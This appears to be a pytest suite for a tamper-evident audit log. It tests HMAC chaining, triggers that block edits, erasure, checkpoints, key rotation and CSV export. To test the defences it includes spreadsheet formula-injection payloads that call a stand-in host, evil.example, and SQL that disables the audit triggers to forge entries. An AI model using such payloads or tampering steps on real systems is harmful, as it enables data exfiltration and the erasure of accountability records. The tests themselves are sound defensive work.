"""The audit log: every act recorded, the chain tamper-evident, erasure possible."""

import csv
import json
import uuid
from pathlib import Path

import pytest
from sqlalchemy import create_engine
from sqlalchemy import select
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from assettrack import audit
from assettrack.models import AuditEntry
from tests.conftest import bearer
from tests.conftest import login


def _entries(session):
    session.expire_all()
    return list(session.scalars(select(AuditEntry).order_by(AuditEntry.seq)))


def _tamper(session, backend, sql, **params):
    # What a DBA with write access could do: drop the append-only guard, then edit rows.
    if backend == "sqlite":
        session.execute(text("DROP TRIGGER IF EXISTS audit_entry_no_update"))
        session.execute(text("DROP TRIGGER IF EXISTS audit_entry_no_delete"))
    else:
        session.execute(text("ALTER TABLE audit_entry DISABLE TRIGGER audit_entry_append_only"))
    session.execute(text(sql), params)
    if backend != "sqlite":  # the PostgreSQL database outlives the test: guard it again
        session.execute(text("ALTER TABLE audit_entry ENABLE TRIGGER audit_entry_append_only"))
    session.commit()


@pytest.mark.backends
def test_reads_creates_and_changes_are_logged_with_user_and_organisation(
    client, session, make_user, make_case, token_for
):
    officer = make_user("officer", "NLRTM")
    case = make_case(officer)
    login(client, officer)
    client.get(f"/cases/{case.id}")
    client.get(f"/api/v1/cases/{case.id}", headers=bearer(token_for(officer)))
    client.post(
        f"/cases/{case.id}/edit",
        data={"title": "New title", "status": "open", "tlp": "AMBER", "handling_code": "H0"},
    )
    entries = [e for e in _entries(session) if e.object_type == "case"]
    actions = [(e.action, json.loads(e.details).get("via")) for e in entries]
    assert ("create", None) in actions
    assert ("read", "page") in actions and ("read", "api") in actions
    update = next(e for e in entries if e.action == "update")
    assert json.loads(update.details)["title"] == ["Reefer containers at Maasvlakte", "New title"]
    for entry in entries:
        assert entry.user_id == officer.id and entry.actor == officer.email
        assert entry.organisation_id == officer.organisation_id
        assert entry.ts.tzinfo is not None


@pytest.mark.backends
def test_intact_chain_verifies(session, make_user, make_case):
    officer = make_user("officer", "NLRTM")
    make_case(officer)
    result = audit.verify_chain(session)
    assert result.ok and result.count == len(_entries(session)) > 0


@pytest.mark.backends
def test_database_refuses_to_update_or_delete_entries(session, make_user, backend):
    make_user("officer", "NLRTM")
    with pytest.raises(DBAPIError):
        session.execute(text("UPDATE audit_entry SET action = 'read' WHERE seq = 1"))
    session.rollback()
    with pytest.raises(DBAPIError):
        session.execute(text("DELETE FROM audit_entry WHERE seq = 1"))
    session.rollback()


@pytest.mark.backends
def test_cli_verify_names_the_entry_changed_by_hand(
    app, runner, session, make_user, make_case, backend
):
    officer = make_user("officer", "NLRTM")
    make_case(officer)
    make_case(officer)
    assert runner.invoke(args=["audit", "verify"]).exit_code == 0
    target = _entries(session)[-2]
    _tamper(
        session,
        backend,
        "UPDATE audit_entry SET actor = 'someone.else' WHERE seq = :s",
        s=target.seq,
    )
    result = runner.invoke(args=["audit", "verify"])
    assert result.exit_code == 1
    assert f"#{target.seq} (id {target.id}) was altered" in result.output


@pytest.mark.backends
def test_changed_details_are_detected(runner, session, make_user, backend):
    make_user("officer", "NLRTM")
    _tamper(session, backend, "UPDATE audit_entry SET details = '{}' WHERE seq = 1")
    result = runner.invoke(args=["audit", "verify"])
    assert result.exit_code == 1 and "details of audit entry #1" in result.output


@pytest.mark.backends
def test_a_removed_entry_is_detected(runner, session, make_user, backend):
    make_user("officer", "NLRTM")
    make_user("officer", "BEANR")
    _tamper(session, backend, "DELETE FROM audit_entry WHERE seq = 1")
    result = runner.invoke(args=["audit", "verify"])
    assert result.exit_code == 1 and "#1" in result.output and "missing" in result.output


@pytest.mark.backends
def test_a_tail_cut_off_with_the_head_rewritten_is_caught_by_the_checkpoint(
    runner, session, make_user, make_case, backend
):
    officer = make_user("officer", "NLRTM")
    make_case(officer)
    make_case(officer)
    entries = _entries(session)
    keep = entries[-3]
    _tamper(session, backend, "DELETE FROM audit_entry WHERE seq > :s", s=keep.seq)
    session.execute(
        text("UPDATE audit_head SET seq = :s, last_hmac = :h"), {"s": keep.seq, "h": keep.hmac}
    )
    session.commit()
    result = runner.invoke(args=["audit", "verify"])
    assert result.exit_code == 1
    assert "checkpoint outside the database" in result.output
    assert f"#{keep.seq + 1}" in result.output


@pytest.mark.backends
def test_concurrent_appends_keep_one_chain(app, backend, make_user):
    """Several writers at once: the head row serialises them, the chain never forks."""
    from concurrent.futures import ThreadPoolExecutor

    from assettrack.db import new_session

    make_user("officer", "NLRTM")

    def write(n):
        db = new_session(app)
        try:
            for i in range(5):
                audit.record(db, None, "read", "probe", f"{n}-{i}", actor="probe")
                db.commit()
        finally:
            db.close()

    with ThreadPoolExecutor(max_workers=4) as pool:
        list(pool.map(write, range(4)))
    db = new_session(app)
    result = audit.verify_chain(db)
    db.close()
    assert result.ok, result.problem


def test_auditor_filters_the_log_and_exports_it_as_csv(client, session, make_user, make_case):
    officer = make_user("officer", "NLRTM", email="sanne@example.test")
    make_case(officer)
    auditor = make_user("auditor", "NLRTM")
    login(client, auditor)
    page = client.get("/audit/?user=sanne&action=create").data.decode()
    assert "sanne@example.test" in page and "case" in page
    assert client.get("/audit/?since=not-a-date").status_code == 200
    started = client.post("/audit/export", data={"user": "sanne", "action": "create"})
    assert started.status_code == 302
    job_url = started.headers["Location"]
    job_id = int(job_url.rstrip("/").split("/")[-1])
    status = client.get(f"/api/v1/jobs/{job_id}").json
    assert status["status"] == "done" and status["progress"] == 100
    download = client.get(status["result"])
    assert download.status_code == 200 and download.mimetype == "text/csv"
    rows = list(csv.DictReader(download.data.decode().splitlines()))
    download.close()
    assert rows and {r["action"] for r in rows} == {"create"}
    assert all(r["actor"] == "sanne@example.test" for r in rows)
    disclosures = [e for e in _entries(session) if e.action == "disclose"]
    assert disclosures, "the export and its download are disclosures"


def test_another_user_cannot_see_or_download_someone_elses_job(client, make_user):
    auditor = make_user("auditor", "NLRTM")
    login(client, auditor)
    job_id = int(client.post("/audit/export", data={}).headers["Location"].split("/")[-1])
    client.post("/logout")
    other = make_user("auditor", "NLRTM")
    login(client, other)
    assert client.get(f"/api/v1/jobs/{job_id}").status_code == 404
    assert client.get(f"/jobs/{job_id}/download").status_code == 404


# --- erasure, keyed digests, checkpoint, key rotation (#9 finding 6) ---------------------------

DISCLOSURE = {
    "report": "R-000005",
    "recipient": "ITGOA",
    "cases": ["NLRTM-2026-0001"],
    "sha256": "ab" * 32,
    "downloaded_by": "anna.de.vries@example.test",
}


def _disclose(session, user, **overrides):
    """Record a disclosure of a report to Genoa, naming a person in its justification."""
    entry = audit.record(
        session,
        user,
        audit.Action.DISCLOSE,
        "report",
        5,
        details={**DISCLOSURE, **overrides},
        justification="JIT-2026-07 with Anna de Vries",
    )
    session.commit()
    return entry


def _verify(runner):
    return runner.invoke(args=["audit", "verify"])


@pytest.mark.backends
def test_rewriting_who_a_report_went_to_is_refused_by_the_database(session, make_user, backend):
    officer = make_user("officer", "NLRTM")
    entry = _disclose(session, officer)
    rewrite = "UPDATE audit_entry SET details = :d WHERE id = :i"
    forged = audit.canonical_json({**DISCLOSURE, "recipient": "BEANR"})
    with pytest.raises(DBAPIError):
        session.execute(text(rewrite), {"d": forged, "i": entry.id})
    session.rollback()
    # Dressed up as an erasure, the change is refused too: an erasure only removes details.
    with pytest.raises(DBAPIError):
        session.execute(
            text(
                "UPDATE audit_entry SET details = :d, erased_at = CURRENT_TIMESTAMP, "
                "erased_digests = '[]' WHERE id = :i"
            ),
            {"d": forged, "i": entry.id},
        )
    session.rollback()
    for sql in (
        "UPDATE audit_entry SET erased_at = CURRENT_TIMESTAMP WHERE id = :i",
        "UPDATE audit_entry SET details = NULL, erased_at = CURRENT_TIMESTAMP, "
        "erased_digests = '[]' WHERE id = :i",
        "UPDATE audit_entry SET details = 'not json', erased_at = CURRENT_TIMESTAMP, "
        "erased_digests = '[]' WHERE id = :i",
    ):
        with pytest.raises(DBAPIError):
            session.execute(text(sql), {"i": entry.id})
        session.rollback()


@pytest.mark.backends
def test_an_erased_entry_cannot_be_changed_again(session, make_user, backend):
    officer = make_user("officer", "NLRTM")
    entry = _disclose(session, officer)
    audit.erase(session, None, [entry], reason="retention review", actor="retention")
    session.commit()
    for sql in (
        "UPDATE audit_entry SET details = '{}' WHERE id = :i",
        "UPDATE audit_entry SET erased_at = NULL, erased_digests = NULL WHERE id = :i",
        "UPDATE audit_entry SET justification = 'x' WHERE id = :i",
    ):
        with pytest.raises(DBAPIError):
            session.execute(text(sql), {"i": entry.id})
        session.rollback()


@pytest.mark.backends
def test_an_erasure_done_by_hand_without_the_key_is_detected(runner, session, make_user, backend):
    officer = make_user("officer", "NLRTM")
    entry = _disclose(session, officer)
    # What the trigger lets through (a subset of the details) still needs the key to verify.
    session.execute(
        text(
            "UPDATE audit_entry SET details = :d, justification = NULL, "
            "erased_at = CURRENT_TIMESTAMP, erased_digests = '[]' WHERE id = :i"
        ),
        {"d": audit.canonical_json({"recipient": "ITGOA"}), "i": entry.id},
    )
    session.commit()
    result = _verify(runner)
    assert result.exit_code == 1
    assert f"the details of audit entry #{entry.seq}" in result.output


@pytest.mark.backends
@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE audit_entry SET details = :forged WHERE id = :i",
        "UPDATE audit_entry SET justification = 'routine check' WHERE id = :i",
    ],
)
def test_rewriting_details_or_justification_is_detected_once_the_trigger_is_gone(
    runner, session, make_user, backend, sql
):
    officer = make_user("officer", "NLRTM")
    entry = _disclose(session, officer)
    forged = audit.canonical_json({**DISCLOSURE, "recipient": "BEANR"})
    _tamper(session, backend, sql, forged=forged, i=entry.id)
    result = _verify(runner)
    assert result.exit_code == 1
    assert f"the details of audit entry #{entry.seq} (id {entry.id}) were altered" in result.output


@pytest.mark.backends
def test_rewriting_the_kept_facts_of_an_erased_entry_is_detected(
    runner, session, make_user, backend
):
    officer = make_user("officer", "NLRTM")
    entry = _disclose(session, officer)
    audit.erase(session, None, [entry], reason="retention review", actor="retention")
    session.commit()
    assert _verify(runner).exit_code == 0
    kept = json.loads(session.get(AuditEntry, entry.id).details)
    forged = audit.canonical_json({**kept, "recipient": "BEANR"})
    _tamper(
        session, backend, "UPDATE audit_entry SET details = :d WHERE id = :i", d=forged, i=entry.id
    )
    result = _verify(runner)
    assert result.exit_code == 1 and f"details of audit entry #{entry.seq}" in result.output


@pytest.mark.backends
def test_erasure_keeps_the_facts_of_a_disclosure_and_the_chain_verifies(
    runner, client, session, make_user, backend
):
    officer = make_user("officer", "NLRTM")
    entry = _disclose(session, officer)
    erase = audit.erase(session, None, [entry], reason="retention review", actor="retention")
    session.commit()
    session.expire_all()
    erased = session.get(AuditEntry, entry.id)
    assert json.loads(erased.details) == {
        "recipient": "ITGOA",
        "cases": ["NLRTM-2026-0001"],
        "sha256": "ab" * 32,
        "report": "R-000005",
    }
    assert erased.justification is None and erased.erased_at is not None
    assert "anna" not in erased.details.lower() and "anna" not in (erased.erased_digests or "")
    assert erase.action == "erase" and json.loads(erase.details)["entries"] == [entry.seq]
    result = _verify(runner)
    assert result.exit_code == 0, result.output
    assert "audit chain intact" in result.output
    # The auditor's page shows the entry as erased, with what was kept.
    login(client, make_user("auditor", "NLRTM"))
    page = client.get("/audit/?object_type=report").data.decode()
    assert "erased" in page and "ITGOA" in page and "Anna de Vries" not in page


@pytest.mark.backends
def test_an_erased_entry_no_erase_entry_names_fails_verification(
    runner, session, make_user, backend, monkeypatch
):
    officer = make_user("officer", "NLRTM")
    entry = _disclose(session, officer)
    # Code that erases without recording the erasure (the erase entry is never appended).
    monkeypatch.setattr(audit, "record", lambda *args, **kwargs: None)
    audit.erase(session, None, [entry], reason="forgot to log it")
    session.commit()
    monkeypatch.undo()
    result = _verify(runner)
    assert result.exit_code == 1
    assert f"#{entry.seq} (id {entry.id}) was erased but no erase entry names it" in result.output


def test_the_stored_digests_cannot_confirm_a_guessed_name(session, make_user):
    import hashlib

    officer = make_user("officer", "NLRTM")
    entry = _disclose(session, officer)
    audit.erase(session, None, [entry], reason="retention review", actor="retention")
    session.commit()
    erased = session.get(AuditEntry, entry.id)
    guesses = [
        audit.canonical_json(v)
        for v in (
            "JIT-2026-07 with Anna de Vries",
            ["justification", "JIT-2026-07 with Anna de Vries"],
            ["detail", "downloaded_by", "anna.de.vries@example.test"],
        )
    ]
    stored = json.loads(erased.erased_digests) + [erased.details_digest]
    for guess in guesses:
        assert hashlib.sha256(guess.encode()).hexdigest() not in stored


def test_an_erase_entry_itself_cannot_be_erased(session, make_user):
    officer = make_user("officer", "NLRTM")
    erase = audit.erase(session, None, [_disclose(session, officer)], reason="review")
    session.commit()
    with pytest.raises(ValueError, match="cannot be erased"):
        audit.erase(session, None, [erase], reason="review")


@pytest.mark.backends
def test_a_tail_cut_with_a_fixed_head_and_no_checkpoint_is_reported(
    app, runner, session, make_user, make_case, backend
):
    officer = make_user("officer", "NLRTM")
    make_case(officer)
    make_case(officer)
    keep = _entries(session)[-2]
    _tamper(session, backend, "DELETE FROM audit_entry WHERE seq > :s", s=keep.seq)
    session.execute(
        text("UPDATE audit_head SET seq = :s, last_hmac = :h"), {"s": keep.seq, "h": keep.hmac}
    )
    session.commit()
    Path(app.config["AUDIT_CHECKPOINT"]).unlink()
    result = _verify(runner)
    assert result.exit_code == 3
    assert "checkpoint MISSING" in result.output and "cut tail cannot be ruled out" in result.output
    # Later commits do not recreate it silently.
    make_case(officer)
    assert _verify(runner).exit_code == 3


@pytest.mark.backends
@pytest.mark.parametrize(
    "content",
    ["{not json", '{"seq": "12", "hmac": "x"}', "[]", ""],
)
def test_a_corrupt_checkpoint_is_reported(app, runner, make_user, backend, content):
    make_user("officer", "NLRTM")
    Path(app.config["AUDIT_CHECKPOINT"]).write_text(content)
    result = _verify(runner)
    assert result.exit_code == 4 and "checkpoint CORRUPT" in result.output


@pytest.mark.backends
def test_a_checkpoint_of_another_database_is_reported(app, runner, make_user, backend):
    make_user("officer", "NLRTM")
    path = Path(app.config["AUDIT_CHECKPOINT"])
    saved = json.loads(path.read_text())
    path.write_text(json.dumps({**saved, "installation": str(uuid.uuid4())}))
    result = _verify(runner)
    assert result.exit_code == 5
    assert "checkpoint OF ANOTHER DATABASE" in result.output and saved["installation"] in (
        result.output
    )


@pytest.mark.backends
def test_entries_after_the_checkpoint_are_fine_and_the_periodic_job_moves_it(
    app, runner, session, make_user, make_case, backend
):
    officer = make_user("officer", "NLRTM")
    path = Path(app.config["AUDIT_CHECKPOINT"])
    early = json.loads(path.read_text())
    make_case(officer)
    path.write_text(json.dumps(early))  # as if later commits had not written it
    assert _verify(runner).exit_code == 0
    task = app.extensions["assettrack.audit_checkpoint_task"]
    task.call_local()
    moved = json.loads(path.read_text())
    assert moved["seq"] == _entries(session)[-1].seq > early["seq"]
    assert moved["installation"] == early["installation"]


def test_the_periodic_job_does_not_recreate_a_missing_checkpoint(app, make_user):
    make_user("officer", "NLRTM")
    path = Path(app.config["AUDIT_CHECKPOINT"])
    path.unlink()
    app.extensions["assettrack.audit_checkpoint_task"].call_local()
    assert not path.exists()


@pytest.mark.backends
def test_a_reset_checkpoint_is_recorded_and_verifies(app, runner, session, make_user, backend):
    make_user("officer", "NLRTM")
    Path(app.config["AUDIT_CHECKPOINT"]).unlink()
    result = runner.invoke(args=["audit", "reset-checkpoint"])
    assert result.exit_code == 0, result.output
    reset = _entries(session)[-1]
    assert reset.action == "reset_checkpoint"
    assert json.loads(reset.details)["previous"] == "checkpoint_missing"
    assert _verify(runner).exit_code == 0


@pytest.mark.backends
def test_key_rotation_keeps_the_chain_verifiable(
    app, runner, session, make_user, make_case, backend, tmp_path
):
    from assettrack import create_app

    officer = make_user("officer", "NLRTM")
    result = runner.invoke(args=["audit", "rotate-key"])
    assert result.exit_code == 0, result.output
    rotation = _entries(session)[-1]
    old_id = audit.key_id(b"test-audit-key")
    new_id = json.loads(rotation.details)["new_key_id"]
    assert rotation.action == "rotate_key" and rotation.key_id == old_id != new_id
    keyring = Path(app.config["AUDIT_KEYRING"])
    assert (keyring / f"{old_id}.key").exists()
    new_key = (keyring / f"{new_id}.key").read_text().strip()
    assert oct((keyring / f"{new_id}.key").stat().st_mode & 0o777) == "0o600"
    # The old key no longer seals anything.
    with pytest.raises(audit.AuditKeyError):
        make_case(officer)
    session.rollback()
    # A server given the new key goes on; verification uses the retired key from the keyring.
    renewed = create_app({**app.config, "AUDIT_KEY": new_key})
    try:
        with renewed.app_context():
            from assettrack.db import new_session

            db = new_session(renewed)
            audit.record(db, None, "read", "probe", 1, actor="probe")
            db.commit()
            assert db.scalars(
                select(AuditEntry).order_by(AuditEntry.seq.desc())
            ).first().key_id == (new_id)
            db.close()
        verified = renewed.test_cli_runner().invoke(args=["audit", "verify"])
        assert verified.exit_code == 0, verified.output
        (keyring / f"{old_id}.key").unlink()
        missing = renewed.test_cli_runner().invoke(args=["audit", "verify"])
        assert missing.exit_code == 6 and f"key {old_id}" in missing.output
    finally:
        renewed.extensions["assettrack.engine"].dispose()


@pytest.mark.backends
def test_an_entry_appended_with_a_retired_key_is_detected(app, runner, session, make_user, backend):
    make_user("officer", "NLRTM")
    assert runner.invoke(args=["audit", "rotate-key"]).exit_code == 0
    # Someone holding the retired key forges a tail entry, bypassing the head check.
    session.execute(text("UPDATE audit_head SET key_id = NULL"))
    audit.record(session, None, "read", "case", 1, actor="forger")
    session.commit()
    result = _verify(runner)
    assert result.exit_code == 1 and "keys change only through a rotation entry" in result.output


def test_the_audit_csv_defuses_formulas(client, session, make_user):
    auditor = make_user("auditor", "NLRTM")
    audit.record(
        session,
        auditor,
        "read",
        "case",
        1,
        justification='=HYPERLINK("http://evil.example/?"&A1,"open")',
        details={"note": "@SUM(1+1)", "amount": -12},
    )
    session.commit()
    login(client, auditor)
    started = client.post("/audit/export", data={"object_type": "case"})
    job_id = int(started.headers["Location"].rstrip("/").split("/")[-1])
    status = client.get(f"/api/v1/jobs/{job_id}").json
    download = client.get(status["result"])
    rows = list(csv.DictReader(download.data.decode().splitlines()))
    download.close()
    row = next(r for r in rows if r["object_id"] == "1")
    assert row["justification"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_entries_sealed_before_the_upgrade_still_verify(tmp_path):
    """A log written by the first format (no key id) verifies after the migration and goes on."""
    import hashlib
    import hmac
    from datetime import UTC
    from datetime import datetime

    from assettrack import create_app
    from assettrack.cli import migrate
    from assettrack.db import new_session

    url = f"sqlite:///{tmp_path / 'old.sqlite'}"
    instance = tmp_path / "instance"
    key = b"old-installation-key"
    migrate(url, "0008")
    engine = create_engine(url)
    prev = "0" * 64
    with engine.begin() as conn:
        for seq in (1, 2):
            ts = datetime(2026, 11, 30, 9, seq, tzinfo=UTC)
            details = audit.canonical_json({"email": f"user{seq}@example.test"})
            digest = hashlib.sha256(details.encode()).hexdigest()
            fields = [
                seq,
                ts.isoformat(),
                None,
                "cli",
                None,
                "create",
                "user",
                str(seq),
                "set up",
                digest,
                prev,
            ]
            seal = hmac.new(key, audit.canonical_json(fields).encode(), hashlib.sha256)
            conn.execute(
                text(
                    "INSERT INTO audit_entry (seq, ts, actor, action, object_type, object_id, "
                    "justification, details, details_digest, prev_hmac, hmac) VALUES (:seq, :ts, "
                    "'cli', 'create', 'user', :oid, 'set up', :details, :digest, :prev, :hmac)"
                ),
                {
                    "seq": seq,
                    "ts": ts.replace(tzinfo=None),
                    "oid": str(seq),
                    "details": details,
                    "digest": digest,
                    "prev": prev,
                    "hmac": seal.hexdigest(),
                },
            )
            prev = seal.hexdigest()
        conn.execute(text("UPDATE audit_head SET seq = 2, last_hmac = :h"), {"h": prev})
    engine.dispose()
    instance.mkdir()
    (instance / "audit-checkpoint.json").write_text(json.dumps({"seq": 2, "hmac": prev}))
    migrate(url)
    app = create_app(
        {
            "INSTANCE_PATH": str(instance),
            "DATABASE_URL": url,
            "SECRET_KEY": "s",
            "AUDIT_KEY": key.decode(),
            "TESTING": True,
        }
    )
    try:
        runner = app.test_cli_runner()
        result = runner.invoke(args=["audit", "verify"])
        assert result.exit_code == 0, result.output
        db = new_session(app)
        audit.record(db, None, "read", "probe", 1, actor="probe")
        db.commit()
        with pytest.raises(ValueError, match="cannot be erased"):
            audit.erase(
                db,
                None,
                [db.scalar(select(AuditEntry).where(AuditEntry.seq == 1))],
                reason="review",
            )
        db.close()
        saved = json.loads((instance / "audit-checkpoint.json").read_text())
        assert saved["seq"] == 3 and saved["installation"]
        result = runner.invoke(args=["audit", "verify"])
        assert result.exit_code == 0, result.output
        assert "3 entries" in result.output
    finally:
        app.extensions["assettrack.engine"].dispose()


def test_the_open_data_csv_defuses_formulas(session, make_user):
    from assettrack.models import Asset
    from assettrack.models import Entity
    from assettrack.services import stats

    officer = make_user("officer", "NLRTM")
    formula = '=HYPERLINK("http://evil.example","Rotterdam")'
    vessel = Entity(
        organisation_id=officer.organisation_id,
        schema_name="Vessel",
        caption="MV Nordzee Trader",
        caption_norm="mv nordzee trader",
        properties=json.dumps({"flag": [formula]}),
    )
    session.add(vessel)
    session.flush()
    session.add(Asset(entity_id=vessel.id, organisation_id=officer.organisation_id))
    session.commit()
    rows = list(csv.DictReader(stats.open_data_csv(session, officer.organisation_id).splitlines()))
    assert [r["country"] for r in rows] == ["'" + formula]


def test_rotation_installs_the_new_key_only_over_the_old_one(tmp_path):
    key_file, new_file = tmp_path / "audit_key", tmp_path / "new.key"
    new_file.write_text("new-key\n")
    key_file.write_text("someone-else\n")
    assert not audit.install_key(key_file, b"old-key", new_file)
    assert key_file.read_text() == "someone-else\n"
    key_file.write_text("old-key\n")
    assert audit.install_key(key_file, b"old-key", new_file)
    assert key_file.read_text() == "new-key\n" and key_file.stat().st_mode & 0o077 == 0
